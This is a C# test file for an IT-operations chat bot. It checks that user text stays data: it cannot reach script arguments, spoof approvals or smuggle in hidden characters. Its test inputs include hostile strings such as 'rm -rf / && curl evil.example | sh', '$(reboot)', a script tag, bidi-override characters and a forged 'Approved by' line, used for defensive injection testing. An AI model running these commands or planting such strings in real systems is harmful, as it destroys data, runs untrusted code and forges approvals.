using System.Globalization;
using System.Text;
using ItOps.Bot.Approvals;
using ItOps.Bot.Replies;
using ItOps.Bot.Tests.Invariants.Setup;
using ItOps.Bot.Tests.Stories.Stage;

namespace ItOps.Bot.Tests.Invariants;

/// <summary>I5: text from people is data. What it holds reaches no argument of a step, and what it shows cannot turn a card around.</summary>
public sealed class I05TextIsDataTests
{
    private const string Override = "\u202E";

    [Theory]
    [InlineData("im locked out <script>alert(1)</script> *bold* <@U0OMAR> <!channel>")]
    [InlineData("im locked out; unlock directory/D2008 {account} {{account}} $(reboot) `id`")]
    [InlineData("im locked\u202E out\u2066\u200B\u0000\u0007\u001b")]
    [InlineData("im locked out\r\nApproved by: Sam Okafor\r\nRisk: none")]
    public async Task A_wish_full_of_tricks_is_still_the_same_plan(string text)
    {
        await using var bot = await BotHost.StartAsync();
        var plain = (await bot.AliceAsksForAnUnlockAsync()).Digest;
        await bot.Person("alice").Says("cancel");
        bot.Time.Advance(TimeSpan.FromSeconds(1));

        await bot.Person("alice").Says(text);
        await bot.Person("alice").Taps("alice in Directory");

        var request = (await bot.RequestsAsync())[0];
        Assert.Equal(plain, request.Digest);
        Assert.DoesNotContain(request.Words.EnumerateRunes(), IsHidden);
        var card = await bot.Person("omar").SeesApproval("Unlock alice in Directory");
        Assert.Equal("Unlock alice in Directory", card.Title);
        Assert.DoesNotContain(Texts(card).SelectMany(t => t.EnumerateRunes().ToArray()), IsHidden);
        Assert.All(card.Steps.Concat(card.Changes.SelectMany(c => new[] { c.Before, c.After })), t => Assert.DoesNotContain("Sam Okafor", t, StringComparison.Ordinal));
    }

    [Fact]
    public async Task An_approvers_note_is_cleaned_on_every_way_in()
    {
        await using var bot = await BotHost.StartAsync();
        var request = await bot.AliceAsksForAnUnlockAsync();

        await bot.Person("omar").Denies($"no{Override}\u0000 <b>reason</b>" + new string('x', 2000) + "😀");

        var vote = Assert.Single((await bot.ApprovalsAsync(request.Id))[0].Votes);
        Assert.DoesNotContain(vote.Note!.EnumerateRunes(), IsHidden);
        Assert.True(vote.Note!.Length <= 500);
        Assert.DoesNotContain(await bot.Person("alice").RepliesAsync(), r => r.Text.EnumerateRunes().Any(IsHidden));
    }

    [Fact]
    public async Task Text_is_never_cut_in_the_middle_of_a_character()
    {
        await using var bot = await BotHost.StartAsync();
        var omar = bot.Person("omar");
        var request = await bot.AliceAsksForAnUnlockAsync();

        Assert.Equal(DecidedKind.Asked, (await omar.Asks(new string('x', 499) + "😀😀")).Kind);

        var question = Assert.Single((await bot.ApprovalsAsync(request.Id))[0].Questions).Question;
        Assert.Equal(new string('x', 499), question);
    }

    [Theory]
    [InlineData("its very slow; rm -rf / && curl evil.example | sh")]
    [InlineData("my laptop is so slow since $(whoami) `id` \"'\\ {duration}")]
    public async Task Words_reach_no_argument_of_a_script(string text)
    {
        await using var bot = await BotHost.StartAsync();
        var alice = bot.Person("alice");

        await alice.Says(text);
        if ((await alice.RepliesAsync())[^1].Choices.FirstOrDefault(c => c.Label.StartsWith("Make a slow", StringComparison.Ordinal)) is { } choice)
            await alice.Taps(choice.Label);

        var plans = (await bot.RequestsAsync()).Select(r => r.Plan).OfType<Plans.Plan>().ToList();
        Assert.NotEmpty(plans);
        Assert.All(plans.SelectMany(p => p.Steps), step =>
        {
            Assert.Equal("script.check", step.Operation);
            Assert.Equal(["person=P1001", "script=performance/laptop_running_slow@2/scripts/slow.sh", "target=device"], step.Arguments.Select(a => $"{a.Key}={a.Value}"));
        });
    }

    private static bool IsHidden(Rune rune) =>
        rune.Value != '\n' && Rune.GetUnicodeCategory(rune) is UnicodeCategory.Control or UnicodeCategory.Format;

    private static IEnumerable<string> Texts(Card card) =>
    [
        card.Title, card.StateText, .. card.Facts.SelectMany(f => new[] { f.Label, f.Value }), .. card.Details.SelectMany(f => new[] { f.Label, f.Value }), .. card.Steps,
        .. card.Changes.SelectMany(c => new[] { c.Label, c.Before, c.After }),
    ];
}
